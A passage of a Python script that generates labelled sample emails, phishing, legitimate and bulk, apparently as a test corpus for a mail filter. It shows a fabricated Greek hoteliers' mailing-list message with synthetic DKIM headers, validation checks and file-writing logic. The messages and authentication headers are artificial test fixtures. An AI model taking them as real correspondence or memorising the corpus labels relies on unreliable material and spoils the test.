             "Μάρκος Κωστάκης\nΓραμματέας\n\n-- \nΛάβατε αυτό το μήνυμα επειδή είστε εγγεγραμμένοι στην ομάδα \"Μέλη Συλλόγου Ξενοδόχων Νάξου\" των Ομάδων Google.\n"
             "Για να απεγγραφείτε, στείλτε email στο members+unsubscribe@naxos-hoteliers.gr.\n")
    own = [dkim("googlegroups.com", "20230601", "sender:mime-version:from:date:message-id:subject:to:x-original-sender:list-id:list-unsubscribe", seed, when),
           dkim("naxos-hoteliers.gr", "default", "from:date:message-id:subject:to:mime-version", seed + "n", when),
           f"Sender: members@naxos-hoteliers.gr", "MIME-Version: 1.0", f"From: {addr('Μάρκος Κωστάκης', frm)}", f"Date: {fmt(when)}",
           f"Message-ID: {gmail_msgid(seed)}", f"Subject: {enc('Γενική συνέλευση 5 Ιουνίου')}", "To: members@naxos-hoteliers.gr",
           f"X-Original-Sender: {frm}", "Precedence: list", "Mailing-list: list members@naxos-hoteliers.gr; contact members+owners@naxos-hoteliers.gr",
           "List-ID: <members.naxos-hoteliers.gr>", "X-Google-Group-Id: " + str(int(h(seed, 10), 16)),
           "List-Post: <mailto:members@naxos-hoteliers.gr>", "List-Help: <https://support.google.com/a/naxos-hoteliers.gr/bin/topic.py?topic=25838>, <mailto:members+help@naxos-hoteliers.gr>",
           "List-Unsubscribe: <mailto:googlegroups-manage+" + str(int(h(seed, 10), 16)) + "+unsubscribe@googlegroups.com>"]
    add("bulk", "bulk", "hoteliers-association-list-gr",
        assemble(top, hops, own, tail, gmail_alt(seed, plain)),
        "Greek local hoteliers' association mailing list (Google Groups) announcing a general meeting; list headers present, no links.")


for _fn in (l_guest_inquiry_es, l_guest_noise_complaint, l_guest_id_photo_it, l_bakery_invoice, l_staff_rota, l_family_gr, l_domain_renewal,
            l_pt_agency_voucher, l_wine_mailchimp, l_linen_brevo_fr, l_sumup_newsletter_de, l_tourism_list):
    _fn()


# ==== END OF MESSAGES ====

# ---------------------------------------------------------------- checks and main

def check(raw: bytes, name: str) -> None:
    for number, line in enumerate(raw.split(b"\n"), start=1):
        assert len(line) < 990, f"{name}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=email.policy.default).parsebytes(raw)
    for part in msg.walk():
        assert not part.defects, f"{name}: defects {part.defects} in {part.get_content_type()}"
        for key, value in part.items():
            assert not getattr(value, "defects", ()), f"{name}: header {key} defects {value.defects}"
        if not part.is_multipart():
            content = part.get_content()
            assert content is not None, f"{name}: part does not decode"
    for needed in ("From", "To", "Subject", "Date", "Message-ID", "Received", "Authentication-Results"):
        assert msg[needed] is not None, f"{name}: no {needed}"


# "file stem" -> category folder the file should be written to instead (filled by the maintainer).
# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b32-legit-booking-new-reservation": "bulk",
    "b32-legit-booking-relay-parking-question": "bulk",
    "b32-legit-expedia-new-reservation": "bulk",
    "b32-legit-airbnb-payout-sent": "bulk",
    "b32-legit-airbnb-new-review-it": "bulk",
    "b32-legit-stripe-payout-on-the-way": "bulk",
    "b32-legit-thefork-new-reservation-fr": "bulk",
    "b32-legit-vrbo-new-inquiry": "bulk",
    "b32-legit-registrar-auto-renew-reminder": "bulk",
}


def main() -> None:
    for old in sorted(MAIL.glob("*/b32-*.eml")):
        old.unlink()
    attacks = sum(1 for m in MESSAGES if m[1] == "phish")
    legit = sum(1 for m in MESSAGES if m[1] in ("legit", "bulk"))
    lines = []
    seen = set()
    for cat, kind, slug, raw, desc in MESSAGES:
        stem = f"b32-{kind}-{slug}"
        assert stem not in seen, stem
        seen.add(stem)
        assert (kind == "phish" and cat in ("phishing", "malware")) or (kind == "legit" and cat == "clean") \
            or (kind == "bulk" and cat == "bulk"), stem
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    counts: dict[str, int] = {}
    for cat, *_ in MESSAGES:
        counts[cat] = counts.get(cat, 0) + 1
    print(f"{len(MESSAGES)} messages: {attacks} attacks, {legit} legitimate; " +
          ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))
    if "--partial" not in sys.argv:
        assert attacks == 50, attacks
        assert legit == 25, legit


if __name__ == "__main__":
    main()
